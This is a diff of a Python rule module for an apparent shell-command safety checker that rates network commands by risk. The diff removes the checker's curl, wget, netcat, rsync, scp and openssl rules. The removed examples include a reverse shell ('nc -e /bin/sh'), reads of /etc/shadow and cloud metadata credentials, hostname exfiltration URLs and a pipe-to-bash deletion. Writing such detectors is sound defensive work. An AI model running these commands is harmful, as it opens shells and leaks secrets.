@@ -1,214 +1,25 @@
 """What looks at, changes and talks over the network. Source: iproute2, curl, bind and OpenSSH manuals."""
 
-from guard.judge.engine import R1, R2, R3, Call, Program
-from guard.judge.options import Grammar, Parsed
-from guard.judge.rules import custom, many, perform, reader, table
-from guard.judge.shell.syntax import Word
+from guard.judge.engine import R2, R3, Call, Program
+from guard.judge.options import Parsed
+from guard.judge.rules import custom, many, reader, table
 from guard.judge.tables import names, starts
-from guard.judge.wrappers import ssh_option
 
 EXAMPLES = {
     "R0": ("ip addr", "ip a", "ip -br link show", "ip route get 1.1.1.1", "ip -s link", "ip neigh", "ip rule list",
         "ss -tlnp", "ss -s", "netstat -tulpn", "ifconfig", "ifconfig eth0", "route -n", "arp -an",
         "iptables -L -n -v", "iptables -S", "iptables -t nat -L", "iptables-save", "nft list ruleset",
-        "ufw status verbose", "curl -I https://example.org", "curl -s https://example.org/x",
-        "curl -fsSL http://localhost:8080/health", "curl -sS -o /dev/null -w '%{http_code}' http://localhost/",
-        "dig example.org", "openssl s_client -connect localhost:443 </dev/null",
-        "echo | openssl s_client -connect localhost:443", "dig +short x.org MX", "nslookup x.org", "host x.org",
-        "ping -c 3 10.0.0.1", "traceroute x", "mtr -r x", "wget -qO- http://localhost/x",
-        "wget --spider http://localhost/", "openssl version", "openssl s_client -connect localhost:443",
-        "nc -z localhost 22", "tcpdump -D", "whois x.org", "ethtool eth0", "firewall-cmd --list-all", "rsync -n a b",
-        "curl -X GET http://localhost/", "bridge link", "nmcli device status", "ip netns list", "curl --version",
-        "openssl x509 -in c.crt -noout -text", "ssh-keygen -lf k.pub", "curl -H 'Accept: x' http://localhost",),
-    "R1": ("wget http://localhost/x", "curl -O http://localhost/x", "curl -o f http://localhost/x", "rsync -a a b",
-        "scp h:a b"),
+        "ufw status verbose", "dig example.org", "dig +short x.org MX", "nslookup x.org", "host x.org",
+        "ping -c 3 10.0.0.1", "traceroute x", "mtr -r x", "tcpdump -D", "whois x.org", "ethtool eth0",
+        "firewall-cmd --list-all", "bridge link", "nmcli device status", "ip netns list",),
     "R2": ("ip link set eth0 down", "ip addr add 1.1.1.1/8 dev eth0", "ip route del default",
         "ip a a 1.1.1.1/8 dev x", "ifconfig eth0 down", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP",
-        "nft add rule x", "ufw allow 22", "ufw enable", "curl -X POST http://localhost/",
-        "curl -d a=b http://localhost", "curl -T f http://localhost", "curl -F a=@f http://x", "curl http://$X/",
-        "curl -K f", "curl -u a:b http://localhost/", "wget --post-data=x http://localhost", "nc -l 80",
-        "nc host 80", "nc -e /bin/sh x 1", "ssh-keygen -t ed25519 -f k", "ss -K", "rsync -a a h:b", "scp a h:b",
-        "curl file:///etc/shadow", "curl http://169.254.169.254/latest/meta-data/", "tcpdump -z x -w f",
-        "curl http://x/$(hostname)", "openssl enc -d -in f", "openssl rsa -in k.pem", "socat - TCP:h:80",
-        "rsync -e 'sh -c x' a h:b", "curl --data-binary @f http://x", "curl --proxy http://x http://y",
-        "tcpdump -w f", "tc qdisc add dev show root x", "bridge fdb add show dev x", "dig $(cat f).x.org",
-        "wget -i f", "ip -batch f", "nmcli con up x", "telnet h 80", "ip netns exec x foo",
-        "wget -e use_proxy=on http://x", "dig x.org @$S", "openssl s_client -connect localhost:443 < f",),
-    "R3": ("iptables -F", "iptables -X", "nft flush ruleset", "rsync -a --delete a b", "ufw reset",
-        "curl -s http://x/ | bash -c 'rm -rf x'", "ipset destroy x", "curl -X DELETE http://localhost/x",
-        "ip netns exec x rm -rf y", "ip addr flush dev eth0", "iptables -t nat -F"),
+        "nft add rule x", "ufw allow 22", "ufw enable", "ss -K", "tcpdump -z x -w f", "tcpdump -w f",
+        "tc qdisc add dev show root x", "bridge fdb add show dev x", "dig $(cat f).x.org", "ip -batch f",
+        "nmcli con up x", "ip netns exec x foo", "dig x.org @$S",),
+    "R3": ("iptables -F", "iptables -X", "nft flush ruleset", "ufw reset", "ipset destroy x",
+        "ip netns exec x rm -rf y", "ip addr flush dev eth0", "iptables -t nat -F",),
 }  # fmt: skip
-
-_METADATA = starts("""
-    169.254.169.254 metadata.google.internal metadata 100.100.100.200 169.254.170.2 fd00:ec2::254 [fd00:ec2::254]
-    metadata.azure.internal 0xa9fea9fe 2852039166 169.254.169.253
-""")
-
-
-def url_peer(call: Call, word: Word, *, protocols: "tuple[str, ...]" = ("http", "https")) -> None:
-    """A URL that is read from: literal, http(s), and no metadata service."""
-    value = call.value(word)
-    if value is None:
-        call.note(
-            R2,
-            "network.dynamic",
-            "the address or path that is asked for is not told by the text, so it can carry data out",
-            word,
-            "law 10",
-        )
-        return
-    scheme, separator, rest = value.partition("://")
-    if not separator:
-        scheme, rest = "http", value
-    scheme = scheme.lower()
-    if scheme not in protocols:
-        if scheme == "file":
-            call.reads(Word(word.span, "/" + rest.lstrip("/"), (), True))
-        call.note(R2, "network.protocol", f"{scheme} is more than a web read", word, "law 10")
-        return
-    place = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
-    if "@" in place:
-        call.note(R2, "network.credentials", "sends a name and password in the address", word, "law 4")
-        place = place.rpartition("@")[2]
-    if any(char in place for char in "{}[]*") and not place.startswith("["):
-        call.note(R2, "network.dynamic", "the address is a pattern", word, "law 10")
-    host, _, port = place.rpartition(":") if ":" in place and not place.endswith("]") else (place, "", "")
-    host = host.lower().rstrip(".")
-    if host in _METADATA or host.startswith("169.254."):
-        call.note(R2, "network.metadata", "the cloud's metadata service hands out credentials", word, "law 10")
-        call.effect("secret-read", host)
-    call.effect("network", host)
-    call.peer(host, int(port) if port.isdigit() and len(port) < 6 else (443 if scheme == "https" else 80), scheme)
-
-
-_CURL = Grammar(
-    "-s,--silent -S,--show-error -f,--fail --fail-with-body --fail-early -L,--location -I,--head "
-    "-i,--include,--show-headers -v,--verbose -k,--insecure -N,--no-buffer -g,--globoff "
-    "-#,--progress-bar --no-progress-meter -q,--disable -4,--ipv4 -6,--ipv6 "
-    "-0,--http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 -m,--max-time: --connect-timeout: "
-    "--retry: --retry-delay: --retry-max-time: --retry-connrefused --retry-all-errors "
-    "-A,--user-agent: -e,--referer: -H,--header: -w,--write-out: "
-    "-o,--output:!write -O,--remote-name!R1 --remote-name-all!R1 -J,--remote-header-name!R1 "
-    "--output-dir:!write --create-dirs -D,--dump-header:!write -c,--cookie-jar:!write -b,--cookie: "
-    "--trace:!write --trace-ascii:!write --stderr:!write --etag-save:!write --etag-compare: "
-    "--hsts:!write --alt-svc:!write --libcurl:!write "
-    "-X,--request: -d,--data:!net --data-raw:!net --data-binary:!net --data-ascii:!net "
-    "--data-urlencode: --json:!net -F,--form:!net --form-string:!net -T,--upload-file:!net -G,--get "
-    "--url: --url-query: -K,--config:!R2 -u,--user:!secret -U,--proxy-user:!secret -n,--netrc!R2 "
-    "--netrc-file:!R2 --netrc-optional!R2 "
-    "-x,--proxy:!R2 --preproxy:!R2 --socks5:!R2 --socks4:!R2 --socks5-hostname:!R2 --socks4a:!R2 "
-    "--noproxy: --resolve: --connect-to: --interface: --local-port: --dns-servers:!R2 --doh-url:!R2 "
-    "-E,--cert: --cert-type: --key:!read --key-type: --cacert: --capath: --pass:!secret --ciphers: "
-    "--tlsv1 --tlsv1.2 --tlsv1.3 --tls-max: "
-    "--compressed --tcp-nodelay --path-as-is -r,--range: -C,--continue-at: -z,--time-cond: "
-    "-y,--speed-time: -Y,--speed-limit: --limit-rate: --max-filesize: --max-redirs: --post301!net "
-    "--post302!net --unix-socket:!R2 --abstract-unix-socket:!R2 -Q,--quote:!R2 -t,--telnet-option:!R2 "
-    "--mail-from:!R2 --mail-rcpt:!R2 "
-    "--raw --styled-output --no-styled-output --no-keepalive --keepalive-time: "
-    "--oauth2-bearer:!secret --aws-sigv4:!R2 --basic --digest --ntlm --negotiate --anyauth "
-    "-p,--proxytunnel!R2 -Z,--parallel --parallel-max: --proto: --proto-default: --proto-redir: "
-    "--location-trusted!R2 -V,--version -h,--help -M,--manual -a,--append!R2 -l,--list-only "
-    "-R,--remote-time --xattr!R1 --engine:!R2 --rate: --expect100-timeout: "
-    "--happy-eyeballs-timeout-ms: --cert-status --ssl-reqd --ssl --tr-encoding --trace-time --no-alpn "
-    "--fail-early --next"
-)  # fmt: skip
-
-
-def _curl(call: Call) -> None:
-    parsed = _CURL.parse(call.args)
-    perform(call, parsed)
-    for word in parsed.unknown:
-        call.note(R2, "curl.unknown-option", f"{word.shape} is not a known option", word, "law 2")
-    for option in parsed.options:
-        name, value = option.name, call.value(option.value) if option.value is not None else ""
-        if name == "-X" and value not in ("GET", "HEAD", "OPTIONS"):
-            call.note(
-                R3 if value == "DELETE" else R2,
-                "curl.method",
-                f"asks with {value or 'a method that is not told'}",
-                option.word,
-                "law 10",
-            )
-        elif name in ("-H", "-b", "-A", "-e", "--url-query") and (
-            value is None or (value.startswith("@") and name in ("-H", "-b")) or (name == "-b" and "=" not in value)
-        ):
-            call.note(R2, "curl.header", "sends a header that is not told by the text", option.word, "law 10")
-        elif (
-            name == "-H"
-            and value
-            and value.lower().startswith(
-                (
-                    "authorization",
-                    "x-api-key",
-                    "cookie",
-                    "proxy-",
-                    "x-auth",
-                    "x-vault",
-                    "private-token",
-                    "x-http-method",
-                )
-            )
-        ):
-            call.note(R2, "curl.header-secret", "sends a credential in a header", option.word, "law 4")
-        elif name == "--data-urlencode":
-            if value is None or "@" in value or not parsed.has("-G"):
-                call.note(R2, "curl.option--data-urlencode", "sends data over the network", option.word, "law 10")
-        elif name == "--url" and option.value is not None:
-            url_peer(call, option.value)
-        elif name in ("--resolve", "--connect-to"):
-            call.note(R2, "curl.redirected", "talks to another host than the address says", option.word, "law 10")
-        elif name == "-w" and (value is None or "%output" in value):
-            call.note(R2, "curl.write-out", "the format can write files", option.word)
-        elif name == "-w" and value and value.startswith("@"):
-            call.reads(Word(option.word.span, value[1:], (), True))
-        elif name == "-o" and value is not None and "#" in value:
-            call.note(R2, "curl.pattern", "writes files that a pattern names", option.word)
-    if parsed.loose and not parsed.operands:
-        call.flag("options-from-expansion")
-    for word in parsed.operands:
-        url_peer(call, word)
-
-
-_WGET = Grammar(
-    "-q,--quiet -nv,--no-verbose -v,--verbose -S,--server-response --spider "
-    "-O,--output-document:!write -o,--output-file:!write -a,--append-output:!write "
-    "-P,--directory-prefix:!write -c,--continue -N,--timestamping -t,--tries: -T,--timeout: "
-    "--connect-timeout: --read-timeout: --dns-timeout: -w,--wait: "
-    "-U,--user-agent: --referer: --header: --no-check-certificate --method: --post-data:!net "
-    "--post-file:!net --body-data:!net --body-file:!net -i,--input-file:!R2 -e,--execute:!R2 "
-    "--config:!R2 --user:!R2 --password:!secret --http-user:!R2 --http-password:!secret "
-    "--ask-password!R2 --use-askpass:!exec --proxy-user:!R2 "
-    "--save-cookies:!write --load-cookies:!R2 --no-proxy --no-cache --no-cookies -4,--inet4-only "
-    "-6,--inet6-only --max-redirect: -r,--recursive!R1 -m,--mirror!R1 -p,--page-requisites!R1 "
-    "-k,--convert-links!R1 -b,--background!R1 -x --delete-after!R2 --content-disposition!R1 "
-    "--warc-file:!write --rejected-log:!write --show-progress --progress: -V,--version -h,--help "
-    "--compression: --limit-rate: -np,--no-parent -l,--level: -A: -R: -D: -H -nc,--no-clobber -nd -nH "
-    "--ca-certificate: --certificate: --private-key:!read --retry-connrefused --waitretry: "
-    "--random-wait --secure-protocol: --https-only --start-pos: -d,--debug --no-hsts "
-    "--hsts-file:!write -B: -F -E,--adjust-extension -K,--backup-converted --cut-dirs: "
-    "--trust-server-names!R1 --retry-on-http-error: --input-metalink:!R2"
-)  # fmt: skip
-
-
-def _wget(call: Call) -> None:
-    parsed = _WGET.parse(call.args)
-    perform(call, parsed)
-    for word in parsed.unknown:
-        call.note(R2, "wget.unknown-option", f"{word.shape} is not a known option", word, "law 2")
-    for option in parsed.options:
-        value = call.value(option.value) if option.value is not None else ""
-        if option.name == "--method" and value not in ("GET", "HEAD"):
-            call.note(R2, "wget.method", "asks with a method that changes things", option.word, "law 10")
-        elif option.name in ("--header", "-U", "--referer") and (
-            value is None or value.lower().startswith(("authorization", "cookie", "x-"))
-        ):
-            call.note(R2, "wget.header", "sends a credential or what is not told by the text", option.word, "law 10")
-    out = parsed.value("-O")
-    target = call.value(out) if out is not None else ""
-    if parsed.operands and not parsed.has("--spider") and target not in ("-", "/dev/null", "/dev/stdout"):
-        call.note(R1, "wget.write", "saves what it fetches")
-    for word in parsed.operands:
-        url_peer(call, word)
 
 
 _IP_READ = starts("""
@@ -444,213 +255,6 @@ def _ping(call: Call, parsed: Parsed) -> None:
             call.peer(value, 0, "icmp")
 
 
-def _nc(call: Call, parsed: Parsed) -> None:
-    if parsed.has("-l") or not parsed.has("-z"):
-        if parsed.has("-h") and not parsed.operands:
-            return
-        call.note(R2, "network.netcat", "opens a connection that can carry anything", None, "nc(1)")
-        return
-    host = call.value(parsed.operands[0]) if parsed.operands else None
-    port = call.value(parsed.operands[1]) if len(parsed.operands) > 1 else None
-    if host is None or port is None:
-        call.note(R2, "network.dynamic", "the peer is not told by the text", None, "law 10")
-        return
-    call.peer(host, int(port) if port.isdigit() and len(port) < 6 else 0, "tcp")
-
-
-_REMOTE = (
-    "-e,--rsh:!exec --rsync-path:!exec -n,--dry-run --delete!R3 --delete-before!R3 "
-    "--delete-during,--del!R3 --delete-after!R3 --delete-delay!R3 --delete-excluded!R3 "
-    "--remove-source-files!R3 --force!R2 -a,--archive -v,--verbose -z,--compress -r,--recursive -P "
-    "--progress --partial -h,--human-readable -u,--update -t,--times -l,--links -L -p,--perms -o -g "
-    "-D -H -A -X -S -x -c,--checksum -i,--itemize-changes -q,--quiet -R,--relative -b,--backup "
-    "--backup-dir:!write --suffix: -W --inplace --append --append-verify --sparse --exclude: "
-    "--include: --exclude-from:!read --include-from:!read --files-from:!read -f,--filter: -C --port: "
-    "--password-file:!R2 --log-file:!write --bwlimit: --timeout: --stats --list-only --numeric-ids "
-    "--chmod: --chown: --usermap: --groupmap: --info: --out-format: --size-only --ignore-existing "
-    "--existing --max-size: --min-size: --link-dest: --compare-dest: --copy-dest: --mkpath --no-perms "
-    "--no-owner --no-group --no-o --no-g --no-p --safe-links --copy-links --protect-args -s -d -k -K "
-    "-E -O -J -y -m,--prune-empty-dirs -F -4 -6 -8 -M:!R2 --daemon!R2 --server!R2 "
-    "--write-batch:!write --read-batch:!R2 --only-write-batch:!write --blocking-io --contimeout: "
-    "-T,--temp-dir: --partial-dir:!write --ignore-errors --max-delete: --delay-updates --fuzzy "
-    "--iconv: --super --fake-super --version --help --ignore-times -I --modify-window: "
-    "--no-whole-file --skip-compress: --compress-level: --compress-choice: --old-args --secluded-args "
-    "--stop-after: --open-noatime --trust-sender --no-motd --address: --sockopts: --outbuf: "
-    "--copy-unsafe-links --copy-dirlinks --keep-dirlinks --hard-links --acls --xattrs --executability "
-    "--owner --group --devices --specials --times --atimes --crtimes --omit-dir-times "
-    "--omit-link-times --cvs-exclude --one-file-system --block-size: --from0 -0 --preallocate "
-    "--msgs2stderr --checksum-choice: --debug: --no-implied-dirs --dirs --no-times --no-recursive "
-    "--whole-file --human --delete-missing-args!R3 --ignore-missing-args --dry"
-)
-
-
-def _rsync(call: Call, parsed: Parsed) -> None:
-    operands = parsed.operands
-    dry = parsed.has("-n")
-    remote = any(":" in (word.value or word.shape).split("/")[0] for word in operands)
-    if remote:
-        call.note(R2, "rsync.remote", "exchanges files with another machine")
-    if parsed.has("--list-only") or dry or len(operands) < 2:
-        return
-    call.note(R1, "rsync.copy", "copies files")
-    if not remote:
-        call.writes(operands[-1])
-
-
-def _rsync_judge(call: Call) -> None:
-    parsed = _RSYNC.parse(call.args)
-    dry = parsed.has("-n")
-    for option in parsed.options:
-        if option.action == "R3" and dry:
-            continue
-        if option.action:
-            from guard.judge.rules import act
-
-            act(call, option)
-    for word in parsed.unknown:
-        call.note(R2, "rsync.unknown-option", f"{word.shape} is not a known option", word, "law 2")
-    if parsed.loose:
-        call.flag("options-from-expansion")
-    _rsync(call, parsed)
-
-
-_RSYNC = Grammar(_REMOTE)
-
-
-def _scp(call: Call) -> None:
-    parsed = Grammar(
-        "-r -p -q -C -v -B -3 -4 -6 -A -O -R -s -T -P: -i: -F:!config -o: -l: -c: -D:!R2 -J: -S:!exec -X: "
-        "-b:!R2 -a -f -N"
-    ).parse(call.args)  # fmt: skip
-    perform(call, parsed)
-    for option in parsed.options:
-        if option.name == "-o":
-            ssh_option(call, option.value)
-    operands = parsed.operands
-    goal = operands[-1] if operands else None
-    if call.name == "sftp":
-        call.note(R2, "sftp.session", "exchanges files with another machine")
-        return
-    outwards = goal is None or goal.value is None or ":" in goal.value.split("/")[0]
-    call.note(
-        R2 if outwards else R1,
-        "scp.copy",
-        "sends files to another machine" if outwards else "fetches files from another machine",
-    )
-    for word in operands[:-1]:
-        if word.value is not None and ":" not in word.value:
-            call.reads(word)
-    if not outwards and goal is not None:
-        call.writes(goal)
-
-
-_OPENSSL_READS = names("""
-    version ciphers list help errstr x509 crl req s_client verify dgst md5 sha1 sha256 sha512 asn1parse crl2pkcs7
-    pkcs7 prime speed info sess_id rand
-""")
-
-
-def _openssl(call: Call) -> None:
-    # `--out` means `-out` (openssl(1)); one reading is enough.
-    args = [
-        Word(word.span, word.value[1:], (), True) if word.value is not None and word.value.startswith("--") else word
-        for word in call.args
-    ]
-    verb = args[0].value if args else None
-    if verb is None:
-        if args:
-            call.opaque("a subcommand that the text does not tell", args[0])
-        else:
-            call.note(R2, "openssl.interactive", "openssl without a subcommand")
-        return
-    if verb not in _OPENSSL_READS:
-        call.note(R2, "openssl.key", f"openssl {verb} makes, shows or uses keys", args[0])
-        return
-    noout = any(word.value == "-noout" for word in args)
-    for at, word in enumerate(args[1:], 1):
-        value = word.value
-        following = args[at + 1] if at + 1 < len(args) else None
-        if (
-            value
-            in (
-                "-out",
-                "-keyout",
-                "-CAserial",
-                "-sess_out",
-                "-msgfile",
-                "-keylogfile",
-                "-writerand",
-                "-respout",
-                "-reqout",
-                "-signature_",
-            )
-            and following is not None
-        ):
-            call.writes(following)
-        elif value in ("-in", "-CAfile", "-cert", "-untrusted", "-crl", "-CA"):
-            target = call.value(following) if following is not None else None
-            if (
-                verb in ("x509", "crl", "req", "verify", "crl2pkcs7", "pkcs7", "asn1parse", "s_client", "ocsp", "dgst")
-                and target is not None
-                and (target.endswith((".pem", ".crt", ".cer", ".csr")) and "key" not in target)
-            ):
-                continue
-            call.reads(following)
-        elif value in (
-            "-key",
-            "-signkey",
-            "-CAkey",
-            "-sign",
-            "-hmac",
-            "-inkey",
-            "-newkey",
-            "-new",
-            "-CAcreateserial",
-            "-passin",
-            "-pass",
-            "-engine",
-            "-provider",
-            "-provider-path",
-            "-config",
-            "-extfile",
-            "-x509",
-            "-key2",
-            "-proxy",
-            "-starttls_",
-            "-cmp",
-            "-loader",
-            "-force_pubkey",
-        ):
-            call.note(R2, "openssl.key", f"{value} uses or makes a key, or loads code", word)
-        elif value in ("-servername", "-host", "-port", "-alpn") and (
-            following is None or call.value(following) is None
-        ):
-            call.note(R2, "network.dynamic", "what is sent is not told by the text", following, "law 10")
-        elif value in ("-connect", "-host") and following is not None:
-            where = call.value(following)
-            if where is None:
-                call.note(R2, "network.dynamic", "the peer is not told by the text", following, "law 10")
-            else:
-                host, _, port = where.rpartition(":")
-                call.peer(host or where, int(port) if port.isdigit() else 443, "tls")
-        elif value in ("-text", "-modulus") and verb == "rsa" and not noout:
-            call.note(R2, "openssl.key", "shows a private key", word)
-    if verb == "s_client" and call.stdin is not None and (call.stdin == "" or call.stdin.strip() not in ("", "Q")):
-        call.note(R2, "openssl.sends", "sends what it reads from standard input", None, "law 10")
-    if verb in ("s_client",) and not any(word.value in ("-connect", "-host") for word in args[1:]):
-        call.peer("localhost", 4433, "tls")
-
-
-_KEYGEN = Grammar("-l -F: -L -B -Q -v -q -f:!read -E: -h")
-
-
-def _keygen(call: Call) -> None:
-    """ssh-keygen: fingerprints and look-ups read; every other option makes, changes or loads something."""
-    parsed = _KEYGEN.parse(call.args)
-    if parsed.unknown or not any(parsed.has(name) for name in ("-l", "-F", "-L", "-B")):
-        call.note(R2, "ssh.keygen", "makes or changes keys, or loads code")
-
-
 def _ethtool(call: Call) -> None:
     values = [word.value or "?" for word in call.args]
     reads = (
@@ -832,8 +436,6 @@ PROGRAMS: dict[str, Program] = {
     "nmcli": custom(_nmcli),
     "ethtool": custom(_ethtool),
     "mii-tool": reader("-F:!R2 -A:!R2 -R!R2 -r!R2 -w -l -v -V", operands="data"),
-    "curl": custom(_curl),
-    "wget": custom(_wget),
     "drill": reader("-w:!write -q:!write -f:!read -i:!read -k:!read -y:!secret -o: -p: -s -u -c: -d: -D -T -S -V: "
     "-v -h -Q "
         "-4 -6 -b -C -I: -r: -t -a -x", operands="data", check=_dns, plain=False, unknown="R2"),
@@ -849,17 +451,6 @@ PROGRAMS: dict[str, Program] = {
             "-f!R2 --flood!R2 -c,--count,--report-cycles: -i,--interval: -w: -W: -s,--psize: -I: -t: -m: -n "
             "-4 -6 -q -v -r,--report -T -U -p: -M: -Q: -S: -l: -b -A -D -a -h -V -d -F:!read -e -z -N: -o: "
             "-g: -G: -P:", operands="data", check=_ping, plain=False, unknown="R0")),
-    **many("nc ncat netcat nc.openbsd nc.traditional", reader(
-            "-z -v,-vv,--verbose -w,--wait: -u,--udp -n,--nodns -l,--listen -e,--exec:!exec "
-            "-c,--sh-exec:!exec --lua-exec:!exec -k -4 -6 -p: -q: -s: -i: -x:!R2 -X: -U!R2 -N -d -t -C -D "
-            "-h,--help --ssl -o:!write --output:!write -r -S -T: -I: -O: -P: -V: -b -F", operands="data", check=_nc,
-            plain=False, unknown="R2")),
-    **many("socat telnet ftp lftp tftp ncftp sendmail mail mailx mutt swaks msmtp curlftpfs nmap masscan "
-        "zmap nikto hydra sqlmap tshark wireshark ngrok chisel frpc gost proxytunnel aria2c axel w3m "
-        "links http https xh youtube-dl yt-dlp smbclient rpcclient rsh rlogin rcp talk ntalk ab wrk hey "
-        "siege vegeta iperf iperf3 k6 locust grpcurl websocat ntpdate chronyd sntp ngrep tcpflow", table(
-            "--version!ok --help!ok", operands="data", level="R2",
-            text="talks to other machines in ways that are not read here", effect="network")),
     "chronyc": custom(lambda call: _chrony(call)),
     "ntpq": reader("-c,--command: -p,--peers -n,--numeric -4,--ipv4 -6,--ipv6 -w,--wide -d -V,--version -h,--help "
     "-r,--raw "
@@ -875,26 +466,6 @@ PROGRAMS: dict[str, Program] = {
             operands="data", check=lambda call, parsed: None if any(parsed.has(n) for n in ("-D", "-r", "-d", "-h",
                     "--version", "-L", "-J")) else call.note(R2, "network.capture",
                 "reads what others send over the network", None, "tcpdump(8)"), plain=False, unknown="R2")),
-    **many("rsync", custom(_rsync_judge)),
-    **many("scp sftp", custom(_scp)),
-    "openssl": custom(_openssl),
-    **many("certbot acme.sh", custom(lambda call: None if call.args and call.args[0].value in ("certificates",
-        "plugins",
-                "--version", "show_account") else call.note(R2, "certificates.change",
-                "asks for, changes or removes certificates"))),
-    **many("gpg gpg2 gpgv", table(
-            "-k,--list-keys,--list-public-keys!ok --verify!ok --fingerprint!ok --list-sigs!ok --check-sigs!ok "
-            "--show-keys!ok --list-packets!ok --version!ok --help!ok --with-colons --keyid-format: "
-            "--no-default-keyring --keyring: --with-fingerprint -v -q --batch --no-tty --dry-run "
-            "--import-options: --print-md:!ok", operands="data", unknown="R2", check=lambda call, parsed: None if any(
-                parsed.has(n) for n in ("-k", "--verify", "--fingerprint", "--list-sigs", "--check-sigs",
-                    "--show-keys", "--list-packets", "--version", "--help", "--print-md")) or call.name == "gpgv" else
-            call.note(R2, "gpg.key", "uses or changes keys"))),
-    **many("ssh-keygen", custom(_keygen)),
-    "ssh-add": custom(lambda call: None if call.args and all(word.value in ("-l", "-L", "-v", "-E", "sha256", "md5")
-            for word in call.args) and any(word.value in ("-l", "-L") for word in call.args) else
-        call.note(R2, "ssh.add", "changes what keys the agent holds")),
-    **many("ssh-copy-id", table("", operands="data", level="R2", text="lets a key log in to another machine")),
     "ssh-keyscan": reader("-p: -t: -T: -4 -6 -H -v -f:!R2 -D", operands="data", check=_ping, plain=False),
     "finger": custom(lambda call: _finger(call)),
 }  # fmt: skip
